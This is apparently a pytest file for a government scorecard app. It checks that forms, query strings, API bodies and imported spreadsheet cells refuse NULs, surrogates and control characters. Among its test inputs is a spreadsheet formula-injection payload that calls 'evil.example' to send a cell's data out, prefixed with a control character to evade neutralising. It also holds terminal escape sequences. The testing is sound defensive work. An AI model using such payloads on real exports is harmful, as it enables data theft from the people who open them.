"""Texts no column keeps (scorecard.text): a NUL, an unpaired surrogate or another control character
(U+0001 to U+001F but tab and line breaks, DEL, U+0080 to U+009F), from a form, a query string, a JSON
body or an imported cell, is refused naming where it is, and nothing changes. A NUL used to reach PostgreSQL (which
refuses it in text), a surrogate the page that shows it (which cannot write it as UTF-8), both ending
in a 500; a control character made every workbook export holding it fail, and one in front of "="
hid a formula from the export's neutralising."""
import re

import pytest
import sqlalchemy as sa

from importers.pipeline import run_import
from scorecard.extensions import db
from scorecard.models import Commitment, Observation
from tests.helpers import json_objects
from tests.hostile_files import cells, handmade_xlsx, sheet_xml
from tests.test_api import PREFIX, _bearer, _commitment_of, _secret, _spec
from tests.test_api import api as api  # noqa: F401 — the fixture
from tests.test_api import http as http  # noqa: F401 — the fixture


def _token(client, path: str) -> str:
    return re.search(r'name="csrf_token"[^>]*value="([^"]+)"', client.get(path).get_data(as_text=True)).group(1)


@pytest.mark.parametrize("path", ["/commitments/?component=%00", "/commitments/?function=a%00b",
                                  "/admin/audit?who=%00"])
def test_a_query_string_holding_a_nul_is_400_naming_the_parameter(demo, client_as, path):
    response = client_as("admin").get(path)
    assert response.status_code == 400
    assert "holds a NUL character (U+0000), which cannot be kept" in response.get_data(as_text=True)


def test_a_form_holding_a_nul_is_400_naming_the_field_and_nothing_is_saved(demo, client_as):
    officer = client_as("officer")
    with demo.app_context():
        before = db.session.scalar(sa.select(sa.func.count()).select_from(Commitment))
    response = officer.post("/commitments/new", data={
        "csrf_token": _token(officer, "/commitments/new"), "title": "Close the \x00backlog", "status": "on_track"})
    assert response.status_code == 400
    assert "Title held a NUL character (U+0000), which cannot be kept" in response.get_data(as_text=True)
    with demo.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Commitment)) == before
    signing_in = client_as("viewer").post("/auth/login", data={"email": "a\x00b@demo.cx.gov", "password": "x"})
    assert signing_in.status_code == 400


def test_the_api_refuses_such_texts_with_a_problem_naming_where_they_are(api, http):  # noqa: F811
    officer, analyst = _secret(api, "officer"), _secret(api, "analyst")
    with api.app_context():
        cid = _commitment_of("CFO")
        version = db.session.get(Commitment, cid).version
        observations = db.session.scalar(sa.select(sa.func.count()).select_from(Observation))
    url = f"{PREFIX}/commitments/{cid}"
    # The value refused is quoted, each such character written as its escape (it was null: Flask's reader
    # refuses such a body, so the problem could not read what was sent).
    for body, column, quoted in (
            ({"note": "a\u0000b"}, "note", "a\\u0000b"),
            ({"evidence_links": ["https://x.gov/\ud800"]}, "evidence_links", '["https://x.gov/\\ud800"]'),
            ({"next_step": "\ud800"}, "next_step", "\\ud800"),
            ({"next_step": '\u0001=HYPERLINK("http://evil.example?d="&B2,"Open")'}, "next_step",
             '\\u0001=HYPERLINK("http://evil.example?d="&B2,"Open")'),
            ({"reason": "late\u001b[31m"}, "reason", "late\\u001b[31m"),
            # DEL and the C1 controls: U+009B starts a terminal's escape as ESC [ does, U+0085 is a line break
            ({"note": "a\u009b31mX\u007f"}, "note", "a\\u009b31mX\\u007f"),
            ({"reason": "next\u0085line"}, "reason", "next\\u0085line")):
        response = http.patch(url, json=body, headers={**_bearer(officer), "If-Match": f'"{version}"'})
        assert response.status_code == 422, (body, response.get_data(as_text=True)[:300])
        [error] = response.get_json()["errors"]
        assert error["column"] == column and "which cannot be kept" in error["message"]
        assert error["value"] == quoted
    rows = [{"program": "DPS-BA-01", "metric": "trust", "period": "FY2026-Q4", "value": 4.1},
            {"program": "DPS-BA-01", "metric": "trust", "period": "FY2026-Q3", "value": 4.1, "notes": "a\ud800b"}]
    refused = http.post(f"{PREFIX}/observations", json=rows, headers=_bearer(analyst))
    assert refused.status_code == 422
    assert [(e["row"], e["column"], e["value"]) for e in refused.get_json()["errors"]] == [(2, "notes", "a\\ud800b")]
    # A filter no stored text can match (on PostgreSQL it failed in the driver): it matches nothing.
    for query in ("observations?channel=a%00b", "programs?life_experience=%00", "findings?rule=x%00"):
        listed = http.get(f"{PREFIX}/{query}", headers=_bearer(analyst))
        assert listed.status_code == 200 and listed.get_json()["items"] == [], query
    with api.app_context():
        assert db.session.get(Commitment, cid).version == version
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Observation)) == observations


def test_an_imported_cell_holding_a_nul_is_named_at_the_preview(demo, tmp_path):
    header = ["component", "program", "metric", "period", "value", "n", "notes"]
    # A workbook's "_x0000_" is a NUL to the parser (a writer that does not escape the underscore).
    path = tmp_path / "nul.xlsx"
    handmade_xlsx(path, sheet_xml(cells([header, ["Benefits Administration", "Benefits Call Center", "trust",
                                                  "FY2027-Q1", 4.1, 100, "see _x0000_ here"]]), "A1:G2"))
    with demo.app_context():
        result = run_import(db.session, path, dry_run=True)
        assert result.status == "rejected"
        [error] = result.errors
        assert (error["row"], error["column"]) == (2, "notes") and "NUL character" in error["message"]


def test_a_text_that_shows_nothing_is_blank_and_one_that_shows_something_is_not():
    from scorecard.text import blank

    for shows_nothing in (None, "", "   ", "\u200b", "\u00a0\u2060\ufeff", "\u3164", "\u2800", "\ufe0f\u034f",
                          "\u00ad"):
        assert blank(shows_nothing), repr(shows_nothing)
    for shows_something in ("a", " x ", "e\u0301", "\u200bok", "5", "—", "日本"):
        assert not blank(shows_something), repr(shows_something)


def test_an_imported_cell_holding_a_control_character_is_named_at_the_preview(demo, tmp_path):
    path = tmp_path / "control.csv"
    # at either end too: str.strip() takes U+0085 and U+001C to U+001F for spaces
    for cell, code in (('"\x01=HYPERLINK(""x"")"', "U+0001"), ("Apply\x9b31m online", "U+009B"),
                       ("Apply online\x7f", "U+007F"), ("Apply online\x85", "U+0085"),
                       ("\x1fApply online", "U+001F")):
        path.write_text("component,program,metric,period,value,n,touchpoint\n"
                        f"Benefits Administration,Benefits Call Center,trust,FY2027-Q1,4.1,100,{cell}\n",
                        encoding="utf-8")
        with demo.app_context():
            before = db.session.scalar(sa.select(sa.func.count()).select_from(Observation))
            result = run_import(db.session, path)
            assert result.status == "rejected"
            [error] = result.errors
            assert (error["row"], error["column"]) == (2, "touchpoint")
            assert f"control character ({code})" in error["message"], error
            assert db.session.scalar(sa.select(sa.func.count()).select_from(Observation)) == before


def test_a_form_holding_a_control_character_is_shown_again_naming_the_field(demo, client_as):
    """A form of the inline-checked blueprints (scorecard.security.INLINE_CHECKED_BLUEPRINTS) came back as a
    400 page offering only the home page, and what was typed was lost: it is the form again, the field's
    message beside it and what was typed kept. Elsewhere (the outbox) the request's own check says it."""
    import html

    officer = client_as("officer")
    response = officer.post("/commitments/new", data={
        "csrf_token": _token(officer, "/commitments/new"), "title": "Close the \x07backlog", "status": "on_track"})
    said = html.unescape(response.get_data(as_text=True))
    assert response.status_code == 400
    assert "Title held a control character (U+0007), which cannot be kept: it is taken out of the text shown " \
        "here. Check the text and send the form again." in said
    assert re.search(r'<input[^>]*name="title"[^>]*value="Close the backlog"', said), "kept, less the character"
    signing_in = demo.test_client()
    login = signing_in.post("/auth/login", data={"csrf_token": _token(signing_in, "/auth/login"),
                                                 "email": "viewer@demo.cx.gov", "password": "pass\x00word"})
    assert "Password holds a NUL character (U+0000), which cannot be kept." in html.unescape(
        login.get_data(as_text=True)) and "pass" not in html.unescape(login.get_data(as_text=True)).split(
        "which cannot be kept.")[1][:40], "the password is never shown"
    admin = client_as("admin")
    sent = admin.post("/outbox/send", data={"csrf_token": _token(admin, "/outbox/"), "note": "a\x07b"})
    assert sent.status_code == 400 and "The field “note” holds a control character (U+0007)" in \
        sent.get_data(as_text=True)


def test_words_line_and_page_breaks_read_as_line_breaks_in_a_form(demo, client_as):
    """Text pasted from Word carries its line break (Shift+Enter) as a vertical tab, its page break as a
    form feed: refused with the other control characters, a whole form came back for one pasted line."""
    from tests.test_commitments_web import submit

    officer = client_as("officer")
    created = submit(officer, "/commitments/new", form_id="new-form", title="Pasted from Word",
                     description="first line\x0bsecond line\x0cnext page\rold Mac line\r\nWindows line",
                     status="on_track")
    assert created.status_code == 303, created.get_data(as_text=True)[-2000:]
    with demo.app_context():
        made = db.session.scalar(sa.select(Commitment).where(Commitment.title == "Pasted from Word"))
        assert made.description == "first line\nsecond line\nnext page\nold Mac line\nWindows line"
    # a lone "\r" alone in a form, as the API and the imports read it (a crafted form had stored "d1\rd2")
    created = submit(officer, "/commitments/new", form_id="new-form", title="Typed on an old Mac",
                     description="d1\rd2", status="on_track")
    assert created.status_code == 303
    with demo.app_context():
        made = db.session.scalar(sa.select(Commitment).where(Commitment.title == "Typed on an old Mac"))
        assert made.description == "d1\nd2"


def test_words_line_breaks_read_as_line_breaks_in_the_api(api, http):  # noqa: F811
    secret = _secret(api, "officer")
    with api.app_context():
        cid = _commitment_of("CFO")
        version = db.session.get(Commitment, cid).version
    patched = http.patch(f"{PREFIX}/commitments/{cid}", json={"next_step": "call\x0bwrite"},
                         headers={**_bearer(secret), "If-Match": f'"{version}"'})
    assert patched.status_code == 200, patched.get_data(as_text=True)[:300]
    with api.app_context():
        assert db.session.get(Commitment, cid).next_step == "call\nwrite"


def test_the_documented_text_pattern_names_no_surrogate_range(api, http):
    """The texts' documented pattern named the surrogate range: Schemathesis cannot use such a pattern, dropped
    it, and sent texts with control characters as valid ones. Unpaired surrogates are refused by their own
    check (above); the pattern still names every control character refused."""
    document = _spec(api, http, _secret(api, "analyst"))
    patterns = {o["pattern"] for o in json_objects(document) if isinstance(o.get("pattern"), str)}
    texts = [p for p in patterns if p.startswith("^[^\\x00")]
    assert texts, patterns
    for pattern in texts:
        assert "\\ud800" not in pattern and "\ud800" not in pattern, pattern
        assert re.fullmatch(pattern, "a\x18b") is None and re.fullmatch(pattern, "a\u202eb") is None
